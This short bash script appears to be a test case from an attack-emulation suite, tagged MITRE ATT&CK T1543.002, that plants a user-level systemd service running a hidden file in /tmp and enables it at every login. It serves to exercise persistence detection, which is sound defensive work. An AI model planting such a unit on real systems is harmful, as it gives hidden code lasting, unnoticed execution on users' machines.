#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1543.002
# tactic: persistence
# what: a user unit in ~/.config/systemd/user, written by the user
. "$AT_LIB"
at_as_victim 'mkdir -p ~/.config/systemd/user/default.target.wants && printf "[Service]\nExecStart=/bin/sh -c /tmp/.plattack-u\n[Install]\nWantedBy=default.target\n" >~/.config/systemd/user/plattack.service && ln -sf ../plattack.service ~/.config/systemd/user/default.target.wants/plattack.service'
